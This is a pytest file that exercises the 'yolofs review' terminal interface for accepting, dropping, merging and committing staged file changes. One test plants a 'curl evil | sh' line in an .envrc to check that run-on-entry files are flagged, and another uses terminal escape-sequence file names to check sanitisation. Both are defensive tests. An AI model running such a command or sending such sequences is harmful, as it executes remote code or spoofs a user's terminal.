"""``yolofs review`` at a real terminal: each key, over a real mount."""

from __future__ import annotations

import os
import re
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli import review_steps
from tests.cli.program import Program
from tests.cli.terminal import Terminal
from yolofs.cli.review.help import HELP
from yolofs.cli.review.keys import ReviewModel
from yolofs.cli.review.moving import MOVES
from yolofs.cli.review.wishes import Way

pytestmark = pytest.mark.mount

LINES = "".join(f"line {number}\n" for number in range(1, 31))


@pytest.fixture
def yolofs(tmp_path_factory: pytest.TempPathFactory) -> Program:
    project = tmp_path_factory.mktemp("r") / "p"
    (project / "src").mkdir(parents=True)
    (project / "src/a.py").write_text(LINES)
    (project / "src/b.py").write_text("b = 1\n")
    (project / "gone.txt").write_text("precious\n")
    program = Program(project)
    program("init")
    return program


@pytest.fixture
def view(yolofs: Program) -> Iterator[Path]:
    with yolofs.mounted() as mountpoint:
        text = LINES.replace("line 2\n", "line two\n").replace("line 20\n", "line twenty\nand more\n")
        (mountpoint / "src/a.py").write_text(text)
        (mountpoint / "src/new.txt").write_text("first\nsecond\nthird\n")
        (mountpoint / "gone.txt").unlink()
        yield mountpoint


def review(yolofs: Program, *words: str, size: tuple[int, int] = (100, 24), editor: str = "false") -> Terminal:
    return Terminal(yolofs.project, ["review", *words], size=size, EDITOR=editor)


def test_the_first_screen_has_deletions_first_and_the_lines_of_what_the_cursor_is_on(
    yolofs: Program, view: Path
) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("yolofs review: 3 changes", "deleted (1)", "-precious")
        rows = [line.partition("│")[0].strip() for line in terminal.screen.splitlines()[1:7]]
        assert rows == ["deleted (1)", "D gone.txt", "in the project (2)", "src/", "M a.py", "A new.txt"]
        terminal.type("q")
        assert terminal.wait() == 0


def at(terminal: Terminal, name: str) -> None:
    """Move the cursor to a row of the list by searching for it."""
    terminal.type(f"/{name}\r")


def test_space_accepts_a_file_and_enter_shows_a_page_and_commits_just_that(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type(" ")
        terminal.wait_for_screen("x   A new.txt", "1 accepted")
        terminal.type("\r")
        terminal.wait_for_screen("this commit would apply 1 change: 1 added", "2 changes stay staged", "enter commits")
        assert not (yolofs.project / "src/new.txt").exists()
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done; to take it back: yolofs undo 1", "2 changes")
        assert (yolofs.project / "src/new.txt").read_text() == "first\nsecond\nthird\n"
        assert (yolofs.project / "gone.txt").exists()
        terminal.type("q")
        assert terminal.wait() == 0
    assert [change["path"].rpartition("/")[2] for change in yolofs("status", "--json").json["changes"]] == [
        "gone.txt",
        "a.py",
    ]


def test_space_in_the_lines_accepts_a_hunk(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("l")
        terminal.type(" ")
        terminal.wait_for_screen("~   M a.py", "x┃@@ -2 +2 @@", "x┃-line 2", "x┃+line two")
        terminal.type("\r")
        terminal.wait_for_screen("this commit would apply 1 change: 1 modified")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
        assert (yolofs.project / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
        assert (view / "src/a.py").read_text().count("line twenty") == 1


def test_s_splits_a_hunk_so_that_space_accepts_single_lines_of_it(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type("s")
        terminal.type("j ")
        terminal.wait_for_screen("~   A new.txt", "x┃+second")
        terminal.type("\r")
        terminal.wait_for_screen("1 added")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
        assert (yolofs.project / "src/new.txt").read_text() == "second\n"
        assert (view / "src/new.txt").read_text() == "first\nsecond\nthird\n"


def test_d_drops_a_file_with_a_note_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("d")
        terminal.wait_for_screen("drop gone.txt? enter drops, escape does not")
        terminal.type("I need it\r")
        terminal.wait_for_screen("dropped gone.txt; u takes it back", "2 changes")
        assert (view / "gone.txt").read_text() == "precious\n"
        terminal.type("u")
        terminal.wait_for_screen("taken back: gone.txt", "3 changes")
        assert not (view / "gone.txt").exists()


def test_enter_counts_too_that_was_typed_before_the_screen_was_there(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.type("/new.txt\r")  # the terminal, which is not raw yet, makes a line feed of it
        terminal.wait_for_screen("+first", gone="/new.txt")


def test_escape_drops_nothing(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("d")
        terminal.wait_for_screen("enter drops")
        terminal.type("\x1b")
        terminal.wait_for_screen("nothing dropped")
        assert not (view / "gone.txt").exists()


def test_d_drops_a_hunk_and_a_line(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("lJd\r")
        terminal.wait_for_screen("dropped text of src/a.py")
        assert (view / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
        terminal.type("h")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type("sjd\r")
        terminal.wait_for_screen("dropped a line of src/new.txt")
        assert (view / "src/new.txt").read_text() == "first\nthird\n"


def test_what_was_accepted_of_a_file_stays_so_when_another_hunk_of_it_is_dropped(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("l Jd\r")
        terminal.wait_for_screen("dropped text of src/a.py", "x┃+line two", "1 accepted", gone="line twenty")
        terminal.type("\r")
        terminal.wait_for_screen("this commit would apply 1 change")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert (yolofs.project / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")


def test_e_edits_a_hunk_in_the_users_editor(yolofs: Program, view: Path) -> None:
    with review(yolofs, editor="sed -i s/two/TWO/") as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("le")
        terminal.wait_for_screen("edited a.py; u takes it back", "+line TWO")
        assert (view / "src/a.py").read_text().splitlines()[1] == "line TWO"
        terminal.type("u")
        terminal.wait_for_screen("taken back: the edit of a.py", "+line two")
        assert (view / "src/a.py").read_text().splitlines()[1] == "line two"


@pytest.mark.parametrize(
    ("editor", "said"),
    [("false", "the editor false ended with exit code 1"), ("rm", "what the editor rm has left cannot be read")],
)
def test_an_editor_that_fails_is_told_on_the_screen(yolofs: Program, view: Path, editor: str, said: str) -> None:
    with review(yolofs, editor=editor) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("le")
        terminal.wait_for_screen(said)


def test_space_on_a_directory_accepts_all_in_it_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("jj ")
        terminal.wait_for_screen("2 accepted", "x   src/", "x   M a.py", "x   A new.txt")
        terminal.type("u")
        terminal.wait_for_screen("3 changes", gone="accepted")


def test_brackets_walk_the_generations(yolofs: Program, view: Path) -> None:
    yolofs("snapshot", "one")
    (view / "src/b.py").write_text("b = 2\n")
    with review(yolofs) as terminal:
        terminal.wait_for_screen("4 changes", gone="generation")
        terminal.type("[")
        terminal.wait_for_screen("3 changes", "[generation 1: one]", gone="b.py")
        terminal.type(" ")
        terminal.wait_for_screen("accepting is for the present: ] leads there")
        terminal.type("[")
        terminal.wait_for_screen("this is the first generation")
        terminal.type("]")
        terminal.wait_for_screen("4 changes", "M b.py")


def test_brackets_walk_to_what_was_there_before_a_drop(yolofs: Program, view: Path) -> None:
    yolofs("snapshot", "one")
    (name,) = (one["id"] for one in yolofs("hunks", "--json", "--", "src/new.txt").json["hunks"])
    yolofs("restore", "--hunk", name)
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious", "2 changes", gone="generation")
        terminal.type("[")
        terminal.wait_for_screen("3 changes", "[generation 1: one]", "A new.txt")


def test_a_accepts_everything_and_q_asks_before_it_leaves_that(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a")
        terminal.wait_for_screen("3 accepted")
        terminal.type("q")
        terminal.wait_for_screen("3 accepted and not committed: leave all the same?")
        terminal.type("n")
        terminal.wait_for_screen("space accept", gone="leave all the same")
        terminal.type("q")
        terminal.wait_for_screen("leave all the same?")
        terminal.type("y")
        assert terminal.wait() == 0
    assert (yolofs.project / "gone.txt").exists()
    assert len(yolofs("status", "--json").json["changes"]) == 3


def test_question_mark_shows_all_keys(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("?")
        terminal.wait_for_screen("walk the generations", "any other key goes back")
        terminal.type("x")
        terminal.wait_for_screen("-precious")


def test_what_git_keeps_and_ignores_is_a_closed_line_here_and_on_the_page(yolofs: Program, view: Path) -> None:
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@y", "-c", "gc.auto=0"]
    (yolofs.project / ".gitignore").write_text("*.log\nout/\n")
    subprocess.run([*git, "init", "-q"], cwd=yolofs.project, check=True)
    subprocess.run([*git, "add", "."], cwd=yolofs.project, check=True)
    subprocess.run([*git, "commit", "-qm", "one"], cwd=yolofs.project, check=True)
    subprocess.run([*git, "commit", "-qam", "two"], cwd=view, check=True)
    for name in ("out/a", "src/x.log", "src/y.log"):
        (view / name).parent.mkdir(exist_ok=True)
        (view / name).write_text("x\n")
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious", "+git: 1 commit on m", "+ignored by git (4)", gone="comparing")
        rows = [line.partition("│")[0].strip() for line in terminal.screen.splitlines()[1:-2]]
        assert [row for row in rows if row][:6] == [
            "deleted (1)", "D gone.txt", "in the project (2)", "src/", "M a.py", "A new.txt"
        ]  # fmt: skip
        assert len([row for row in rows if row]) == 8
        terminal.type("a")
        terminal.wait_for_screen("x +ignored by git (4)")
        terminal.type("\r")
        terminal.wait_for_screen("enter commits")
        lines = terminal.screen.splitlines()
        assert [line[:20] for line in lines[2:5]] == ["D  gone.txt", "M  src/a.py", "A  src/new.txt"]
        assert lines[5].startswith("-  git: 1 commit on m")
        assert lines[6].startswith("-  ignored by git: out/, src/x.log, src/y.log  (4 changes; ")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done", "nothing is staged")
    assert (yolofs.project / "out/a").exists()


BYTES = {
    "up": "\x1b[A", "down": "\x1b[B", "right": "\x1b[C", "left": "\x1b[D", "home": "\x1b[H", "end": "\x1b[F",
    "pageup": "\x1b[5~", "pagedown": "\x1b[6~", "enter": "\r", "escape": "\x1b", "tab": "\t", "c-d": "\x04",
}  # fmt: skip


def test_every_key_does_what_it_says(yolofs: Program, view: Path) -> None:
    review_steps.prepare(yolofs, view)
    with review(yolofs, editor=review_steps.EDITOR) as terminal:
        terminal.wait_for_screen("-precious", "3 changes", gone="comparing")
        for step in review_steps.STEPS:
            for key in step.keys:
                terminal.type(key.removeprefix("text:") if key.startswith("text:") else BYTES.get(key, key))
                if key == "escape":  # what comes at once would be taken for one key with it
                    break
            terminal.wait_for_screen(*step.shown, gone=step.gone)
        terminal.type("\x03")
        assert terminal.wait() == 130


def test_each_key_of_the_tables_has_a_step_and_a_line_of_the_help() -> None:
    """Ctrl-C ends the steps above; Ctrl-Z is pressed in tmux, where a shell brings it back."""
    assert review_steps.KEYS - {"c-d"} == {*ReviewModel().acts(), *MOVES}
    named = {word for line in HELP.splitlines() for word in re.split("  +", line)[0].split()}
    aliases = {" ": "space", "<": "j", ">": "j", "g": "j", "G": "j", "right": "l", "left": "h", "escape": "h"}
    moves = {"up", "down", "home", "end", "pageup", "pagedown"}
    assert {aliases.get(key, key) for key in review_steps.KEYS} - moves - {"c-d"} <= named
    assert {way.value for way in Way} | {way.value.upper() for way in Way} <= {*HELP.split(), *re.findall(r"\w", HELP)}


@pytest.mark.usefixtures("conflicts")
@pytest.mark.parametrize(
    ("key", "said", "after"),
    [
        ("M", "both sides changed the same in", None),
        ("O", "enter commits", ["staged"] * 3),
        ("T", "base's version is taken", ["the user's"] * 3),
    ],
)
def test_each_capital_settles_all(yolofs: Program, view: Path, key: str, said: str, after: list[str] | None) -> None:
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a\r")
        terminal.wait_for_screen("M O T: everywhere")
        terminal.type(key)
        terminal.wait_for_screen(said)
    marked = [(view / name).read_text().startswith("<<<<<<<") for name in ("src/a.py", "src/b.py", "top")]
    assert marked == [True] * 3 if after is None else contents(view) == after


def test_help_and_pages_can_be_read_to_their_end_at_60_by_15(yolofs: Program, view: Path) -> None:
    for number in range(40):
        (view / f"new {number:02}").write_text("x\n")
    with review(yolofs, size=(60, 15)) as terminal:
        terminal.wait_for_screen("43 changes")
        terminal.type("?")
        terminal.wait_for_screen("more lines: j, k scroll", "any other key goes back")
        terminal.type("G")
        terminal.wait_for_screen("is to be looked at again.", gone="more lines")
        terminal.type("xa\r")
        terminal.wait_for_screen("this commit would apply 43 changes", "more lines: j, k scroll", "enter commits")
        assert all(len(line) <= 60 for line in terminal.screen.splitlines())
        terminal.type(" ")
        terminal.wait_for_screen("new 16")
        terminal.type("\x1b[F")
        terminal.wait_for_screen("new 39", "nothing else is staged", "enter commits", gone="more lines")


def test_what_has_become_stale_is_marked_and_has_to_be_accepted_again(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type(" ")
        terminal.wait_for_screen("1 accepted")
        (view / "src/new.txt").write_text("first\nand something worse\n")
        terminal.wait_for_screen("!   A new.txt", "has changed since", "+and something worse", gone="1 accepted")
        terminal.type("\r")
        terminal.wait_for_screen("nothing is accepted yet")


def test_it_stays_usable_at_60_by_15(yolofs: Program, view: Path) -> None:
    with review(yolofs, size=(60, 15)) as terminal:
        terminal.wait_for_screen("yolofs review: 3 changes", "-precious", "q quit")
        at(terminal, "a.py")
        terminal.wait_for_screen("+line two")
        terminal.type("l ")
        terminal.wait_for_screen("x┃+line two")
        assert all(len(line) <= 60 for line in terminal.screen.splitlines())


def test_what_the_host_would_run_is_accepted_by_itself_only(yolofs: Program, view: Path) -> None:
    (view / ".envrc").write_text("curl evil | sh\n")
    with review(yolofs) as terminal:
        terminal.wait_for_screen("what the host would run or trust (1)", "A .envrc [run on entering")
        terminal.type("a")
        terminal.wait_for_screen("3 accepted", "1 that the host would run or trust: accept these one by one")
        at(terminal, ".envrc")
        terminal.wait_for_screen("curl evil")
        terminal.type(" \r")
        terminal.wait_for_screen("1 of which the host would run or", ".envrc  [run on entering the directory]")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert (yolofs.project / ".envrc").read_text() == "curl evil | sh\n"


def test_a_commit_where_base_has_changed_too_has_to_be_asked_for(yolofs: Program, view: Path) -> None:
    (yolofs.project / "src/a.py").write_text("the user's\n")
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type(" \r")
        terminal.wait_for_screen("[changed in base, too]", "o takes what is staged")
        terminal.type("\r")
        terminal.wait_for_screen("1 accepted", "space accept")
        assert (yolofs.project / "src/a.py").read_text() == "the user's\n"
        terminal.type("\r")
        terminal.wait_for_screen("o takes what is staged")
        terminal.type("o")
        terminal.wait_for_screen("enter commits")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert "line twenty" in (yolofs.project / "src/a.py").read_text()


def conflict(yolofs: Program, view: Path, line: str) -> None:
    """Have the user change a line of base, too."""
    text = LINES.replace(f"{line}\n", f"{line}, the user's\n")
    (yolofs.project / "src/a.py").write_text(text)


def page_of(terminal: Terminal, name: str) -> None:
    """Accept a file, and go to the page before a commit."""
    at(terminal, name)
    terminal.wait_for_line(rf"\S?\s+M {name}")
    terminal.type(" ")
    terminal.wait_for_screen("1 accepted")
    terminal.type("\r")


def test_m_merges_what_base_has_changed_too_and_shows_it_before_it_is_committed(yolofs: Program, view: Path) -> None:
    conflict(yolofs, view, "line 10")
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        page_of(terminal, "a.py")
        terminal.wait_for_screen("src/a.py: base ", "it merges", "m merges", "m o t: where the cursor is")
        terminal.type("m")
        terminal.wait_for_screen(
            "merged with base: a.py; look, and accept it; u takes it back", "+line twenty", gone="user's"
        )
        text = (view / "src/a.py").read_text()
        assert "line 10, the user's\n" in text
        assert "line twenty\n" in text
        assert "accepted" not in terminal.screen.splitlines()[0]
        terminal.type(" \r")
        terminal.wait_for_screen("this commit would apply 1 change: 1 modified", "enter commits")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert (yolofs.project / "src/a.py").read_text() == text


@pytest.fixture
def conflicts(yolofs: Program, view: Path) -> None:
    """Have both sides change three files, two of them in one directory."""
    names = "src/a.py", "src/b.py", "top"
    for name in names:
        (view / name).write_text(f"{name}, staged\n")
    yolofs("status")  # a tick of the kernel's clock lies between
    for name in names:
        (yolofs.project / name).write_text(f"{name}, the user's\n")


def contents(place: Path) -> list[str]:
    return [(place / name).read_text().partition(", ")[2].strip() for name in ("src/a.py", "src/b.py", "top")]


@pytest.mark.usefixtures("conflicts")
def test_what_settles_conflicts_is_for_the_path_that_the_cursor_is_on(yolofs: Program, view: Path) -> None:
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a\r")
        terminal.wait_for_screen("this commit would apply 5 changes", "src/  (2)")
        rows = [line.split(":")[0].strip() for line in terminal.screen.splitlines()[2:8]]
        assert rows == ["base has changed, too", "./  (3)", "src/  (2)", "src/a.py", "src/b.py", "top"]
        terminal.type("jjjo")
        terminal.wait_for_line("  src/b.py: .*what is staged is taken")
        assert terminal.screen.count("what is staged is taken") == 1
        terminal.type("jt")
        terminal.wait_for_screen("base's version is taken: top; u takes it back", "4 changes")
        assert contents(view) == ["staged", "staged", "the user's"]
        terminal.wait_for_screen("4 accepted")
        terminal.type("\r")
        terminal.wait_for_line("  src/b.py: .*what is staged is taken")
        assert "top" not in terminal.screen
        terminal.type("jo")
        terminal.wait_for_screen("enter commits", "what is staged replaces what base has there")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert contents(yolofs.project) == ["staged", "staged", "the user's"]


@pytest.mark.usefixtures("conflicts")
def test_on_a_directory_it_is_for_all_in_it(yolofs: Program, view: Path) -> None:
    with review(yolofs, size=(60, 15)) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a\r")
        terminal.wait_for_screen("src/  (2)", "m o t: where the cursor is, M O T: everywhere")
        terminal.type("jt")
        terminal.wait_for_screen("base's version is taken: a.py, b.py")
    assert contents(view) == ["the user's", "the user's", "staged"]


@pytest.mark.usefixtures("conflicts")
def test_a_capital_letter_is_for_all_and_leaving_the_page_forgets(yolofs: Program, view: Path) -> None:
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a\r")
        terminal.wait_for_screen("src/  (2)")
        terminal.type("Gjjjjo")
        terminal.wait_for_line("  top: .*what is staged is taken")
        terminal.type("x\r")
        terminal.wait_for_screen("src/  (2)", gone="what is staged is taken")
        terminal.type("O")
        terminal.wait_for_screen("enter commits")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert contents(yolofs.project) == ["staged"] * 3


def test_t_takes_bases_version_and_u_takes_that_back_with_the_conflict(yolofs: Program, view: Path) -> None:
    conflict(yolofs, view, "line 2")
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        page_of(terminal, "a.py")
        terminal.wait_for_screen("t takes base's version")
        terminal.type("t")
        terminal.wait_for_screen("base's version is taken: a.py; u takes it back", "2 changes", gone="M a.py")
        assert (view / "src/a.py").read_text() == (yolofs.project / "src/a.py").read_text()
        terminal.type("u")
        terminal.wait_for_screen("taken back: taking base's version", "3 changes", "M a.py")
        assert "line two\n" in (view / "src/a.py").read_text()
        page_of(terminal, "a.py")
        terminal.wait_for_screen("changed in base, too")


def test_marks_of_a_merge_are_shown_and_o_takes_what_was_staged_before(yolofs: Program, view: Path) -> None:
    conflict(yolofs, view, "line 2")
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        page_of(terminal, "a.py")
        terminal.wait_for_screen("merged, it has marks in 1 place")
        terminal.type("m")
        terminal.wait_for_screen("both sides changed the same in a.py: take the marks out (e)", "+<<<<<<< staged")
        page_of(terminal, "a.py")
        terminal.wait_for_screen("[marks of a merge]", "o takes what was staged before the merge")
        terminal.type("\r")
        terminal.wait_for_screen("1 accepted", "space accept")
        terminal.type("\r")
        terminal.wait_for_screen("o takes what was staged before the merge")
        terminal.type("o")
        terminal.wait_for_screen("as before the merge: a.py", gone="<<<<<<<")
        assert (view / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n").replace(
            "line 20\n", "line twenty\nand more\n"
        )
        page_of(terminal, "a.py")
        terminal.wait_for_screen("enter commits")


def test_settling_is_not_taken_back_over_what_the_agent_has_done_since(yolofs: Program, view: Path) -> None:
    conflict(yolofs, view, "line 2")
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious")
        page_of(terminal, "a.py")
        terminal.wait_for_screen("t takes base's version")
        terminal.type("t")
        terminal.wait_for_screen("base's version is taken", "2 changes")
        (view / "later.txt").write_text("later\n")
        terminal.wait_for_screen("3 changes", "later.txt")
        terminal.type("u")
        terminal.wait_for_screen("something was staged since")
        assert (view / "later.txt").read_text() == "later\n"


@pytest.mark.parametrize(("how", "code"), [("q", 0), ("\x03", 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_at_every_end_the_terminal_is_given_back_as_it_was(
    yolofs: Program, view: Path, how: str | signal.Signals, code: int
) -> None:
    with review(yolofs) as terminal:
        before = terminal.modes
        terminal.wait_for_screen("-precious")
        terminal.type("j")
        terminal.wait_for_screen("2 changes")
        assert terminal.modes != before
        if isinstance(how, str):
            terminal.type(how)
        else:
            os.kill(terminal.process.pid, how)
        assert terminal.wait() == code
        assert terminal.modes == before
        assert terminal.seen.rfind("\x1b[?1049l") > terminal.seen.rfind("\x1b[?1049h") >= 0
        assert terminal.seen.rfind("\x1b[?25h") > terminal.seen.rfind("\x1b[?25l")


def test_a_terminal_of_another_size_is_drawn_anew(yolofs: Program, view: Path) -> None:
    with review(yolofs, size=(120, 30)) as terminal:
        terminal.wait_for_screen("-precious", "? keys  q quit")
        terminal.resize(60, 15)
        terminal.wait_for_screen("? all keys   q quit", "D gone.txt")
        at(terminal, "a.py")
        terminal.wait_for_screen("+line two")
        terminal.resize(120, 30)
        terminal.wait_for_screen("? keys  q quit", "+line twenty")


def test_the_terminal_gets_no_control_character_of_a_file_or_name(yolofs: Program, view: Path) -> None:
    (view / "\x1b]0;evil\x07").write_text("\x1b[2J\x1b]0;owned\x07" + "y" * 5000 + "\u202e\n")
    with review(yolofs) as terminal:
        terminal.wait_for_screen("4 changes")
        at(terminal, "evil")
        terminal.wait_for_screen("+^[[2J^[]0;owned^G")
        terminal.type("q")
        assert terminal.wait() == 0
        assert "]0;evil" not in terminal.seen.replace("\\033]0;evil", "")
        assert "\x1b]0;owned" not in terminal.seen
        assert "\u202e" not in terminal.seen
